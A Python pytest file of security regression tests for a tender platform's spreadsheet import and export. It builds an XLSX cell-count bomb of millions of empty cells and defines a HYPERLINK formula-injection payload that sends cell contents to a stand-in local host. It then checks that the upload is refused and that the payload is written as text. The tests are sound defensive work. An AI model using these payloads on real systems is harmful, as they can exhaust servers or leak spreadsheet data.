"""Security round 3, bounded imports: the attack's own files, refused in the request in bounded time, and
the price schedule's quantity cell written as text when it is not a number (docs/QUALITY.md, index)."""

import io
import json
import time

import pytest
from openpyxl import load_workbook

from documents.rendering.xlsx import render_questionnaire_xlsx
from documents.rendering.xlsx_price import render_price_schedule_xlsx
from scoring.models import Answer, ImportJob
from tenders.models import Tender
from tenders.selectors import tender_document

from ..scoring.answer_form_helpers import answered_form
from .test_uploads import lead_api, rewrite, upload  # noqa: F401  (lead_api is a fixture)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Détails")'


def empty_cells(spelling, rows=1100, per_row=10_000):
    return b"".join(b'<row r="%d">' % r + spelling * per_row + b"</row>" for r in range(2, rows + 2))


@pytest.mark.parametrize("spelling", [b"<c/>", b'<c r="A1"/>'], ids=["bare", "with-reference"])
def test_f4_eleven_million_empty_cells_in_a_small_form_are_refused_in_the_request(lead_api, dataset_a, spelling):  # noqa: F811
    """The finding's file: ~60 KB on the wire, 11 million cells once inflated. A bare `<c/>` was not
    counted (only `<c ` and `<c>` were), so the file reached openpyxl; now every spelling counts and the
    request refuses it before any job exists."""
    form = answered_form(render_questionnaire_xlsx(tender_document(dataset_a.tender)), answer="MARKER")
    per_row = 10_000 if spelling == b"<c/>" else 3_000  # the longer spelling stays under the inflated-size cap
    bomb = rewrite(
        form,
        lambda name, data: (
            data.replace(b"</sheetData>", empty_cells(spelling, per_row=per_row) + b"</sheetData>")
            if name.endswith("sheet3.xml")
            else data
        ),
    )
    assert len(bomb) < 200 * 1024
    before = list(Answer.objects.filter(bid=dataset_a.bid).values())
    jobs = ImportJob.objects.count()
    started = time.process_time()
    response = upload(lead_api, dataset_a.bid, bomb)
    assert response.status_code == 400, response.content
    assert "trop de cellules" in json.dumps(response.json(), ensure_ascii=False)
    assert time.process_time() - started < 2  # this process's CPU time, not a busy machine's wall clock
    assert ImportJob.objects.count() == jobs  # no job made
    assert list(Answer.objects.filter(bid=dataset_a.bid).values()) == before


def test_f6_a_quantity_that_is_not_a_number_is_written_as_text_not_as_a_formula(dataset_a):
    """Lines stored before the line rules (or through the admin) may hold any text: the price schedule's
    quantity cell took it as it came, and a text starting with "=" became a live formula."""
    line = {"code": "L1", "label": "Licences", "unit": "u", "quantity": HYPERLINK, "period": "once"}
    Tender.objects.filter(pk=dataset_a.tender.pk).update(price_lines=[line])
    dataset_a.tender.refresh_from_db()
    workbook = load_workbook(io.BytesIO(render_price_schedule_xlsx(tender_document(dataset_a.tender))))
    formulas = [
        (cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not [value for _coordinate, value in formulas if "HYPERLINK" in str(value)], formulas
    quantities = [row[4] for row in workbook["Bordereau des prix"].iter_rows(values_only=True) if row[0] == 1]
    assert quantities == [HYPERLINK]  # kept, as text, for the buyer to see and correct
    # The schedule's own formulas (amounts, total) are still formulas.
    assert any(str(value).startswith("=ROUND(") for _coordinate, value in formulas)


def test_f6_a_numeric_quantity_stays_a_number(dataset_a):
    line = {"code": "L1", "label": "Licences", "unit": "u", "quantity": 12, "period": "once"}
    Tender.objects.filter(pk=dataset_a.tender.pk).update(price_lines=[line])
    dataset_a.tender.refresh_from_db()
    workbook = load_workbook(io.BytesIO(render_price_schedule_xlsx(tender_document(dataset_a.tender))))
    quantities = [row[4] for row in workbook["Bordereau des prix"].iter_rows(values_only=True) if row[0] == 1]
    assert quantities == [12]
